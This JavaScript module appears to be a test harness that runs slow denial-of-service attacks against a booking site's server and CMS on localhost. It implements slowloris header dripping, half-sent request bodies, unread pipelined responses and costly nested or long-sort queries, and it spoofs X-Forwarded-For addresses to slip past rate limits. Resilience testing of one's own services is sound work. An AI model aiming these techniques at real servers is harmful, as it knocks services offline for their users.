import net from "node:net";

/**
 * Ways to hold a server up with little work of one's own. Each opens its connections, keeps them as they are until it is ended, and
 * opens closed ones again. `isScattered`: each connection comes from a network of its own, so that no share of an address or a network
 * stands in its way; the others come from one address each, so that no attack is held back by what is counted of an earlier one.
 *
 * @typedef {{ host: string, address: string }} Caller
 * @typedef {{ name: string, connections: number, isScattered?: boolean, open: (socket: net.Socket, caller: Caller) => (() => void) | void }} Attack
 */

const head = (
  /** @type {string} */ line,
  /** @type {Caller} */ { host, address },
  /** @type {string[]} */ further = [],
) => [`${line} HTTP/1.1`, `Host: ${host}`, `X-Forwarded-For: ${address}`, ...further].join("\r\n");

let networks = 0;
/** Of a network that nobody else comes from. */
function newAddress() {
  networks += 1;
  return `10.${(networks >> 8) & 255}.${networks & 255}.9`;
}

/** Milliseconds between two bytes of a slow sender. */
const DRIP_MS = 1000;

/** @type {Attack[]} */
const EVERYWHERE = [
  { name: "idle sockets", connections: 300, open: () => {} },
  {
    name: "headers byte by byte",
    connections: 300,
    open: (socket, caller) => {
      socket.write(head("GET /", caller));
      const drip = setInterval(() => socket.write("\r\nX-Slow: 1"), DRIP_MS);
      return () => clearInterval(drip);
    },
  },
];

/**
 * @param {string} method
 * @param {string} target
 * @returns {Attack}
 */
function slowBody(method, target) {
  return {
    name: `half-sent ${method} ${target}`,
    connections: 100,
    isScattered: true,
    open: (socket, caller) => {
      // Whoever is refused comes back at once, or the one place that an honest visitor leaves is free for the next visitor.
      socket.once("data", () => socket.destroy());
      const further = ["Content-Type: application/json", "Content-Length: 100"];
      socket.write(`${head(`${method} ${target}`, caller, further)}\r\n\r\n{`);
      const drip = setInterval(() => socket.write(" "), DRIP_MS);
      return () => clearInterval(drip);
    },
  };
}

/** Asks for a hundred answers on each connection and takes none of them. */
function slowReader(/** @type {string} */ target) {
  return {
    name: `answers of ${target} that nobody reads`,
    connections: 100,
    open: (/** @type {net.Socket} */ socket, /** @type {Caller} */ caller) => {
      socket.pause();
      socket.write(`${head(`GET ${target}`, caller)}\r\n\r\n`.repeat(100));
    },
  };
}

/** Asks again and again for what costs most, over connections of its own. */
function hungry(/** @type {string} */ name, /** @type {string} */ target, connections = 4) {
  return {
    name,
    connections,
    open: (/** @type {net.Socket} */ socket, /** @type {Caller} */ caller) => {
      const question = `${head(`GET ${target}`, caller)}\r\n\r\n`;
      let waiting = 0;
      const refill = () => {
        for (; waiting < 4; waiting += 1) socket.write(question);
      };
      socket.on("data", (chunk) => {
        waiting -= chunk.toString("latin1").split("HTTP/1.1 ").length - 1;
        if (waiting < 0) waiting = 0;
        refill();
      });
      refill();
    },
  };
}

const DEEP = `/api/tours?populate[departures]${"[populate][tour][populate][departures]".repeat(3)}=true&pagination[pageSize]=100`;
const LONG_SORT = `/api/tours?sort=${Array.from({ length: 1800 }, () => "title").join(",")}`;

export const ATTACKS = {
  /** @type {Attack[]} */
  server: [
    ...EVERYWHERE,
    slowBody("POST", "/api/bookings"),
    slowReader("/de"),
    hungry("searches", `/api/trips/search?q=${"wandern%20".repeat(20)}&pageSize=100`),
  ],
  /** @type {Attack[]} */
  cms: [
    ...EVERYWHERE,
    slowBody("POST", "/api/auth/local"),
    slowReader("/api/tour-operators?pagination[pageSize]=999&populate[logo][fields]=formats"),
    hungry("deep questions", encodeURI(DEEP)),
    hungry("long sorting", LONG_SORT),
  ],
};

/**
 * Begins an attack; the answer ends it.
 *
 * @param {Attack} attack
 * @param {{ port: number }} target
 */
export function begin({ connections, isScattered, open }, { port }) {
  let isOver = false;
  const one = newAddress();
  /** @type {Set<net.Socket>} */
  const sockets = new Set();
  const connect = () => {
    if (isOver) return;
    const socket = net.connect({ port, host: "127.0.0.1" });
    const caller = { host: `localhost:${port}`, address: isScattered ? newAddress() : one };
    sockets.add(socket);
    /** @type {(() => void) | void} */
    let end;
    socket.once("connect", () => (end = open(socket, caller)));
    socket.on("error", () => socket.destroy());
    socket.once("close", () => {
      end?.();
      sockets.delete(socket);
      setTimeout(connect, 100).unref();
    });
  };
  for (let at = 0; at < connections; at += 1) connect();
  return () => {
    isOver = true;
    for (const socket of sockets) socket.destroy();
  };
}
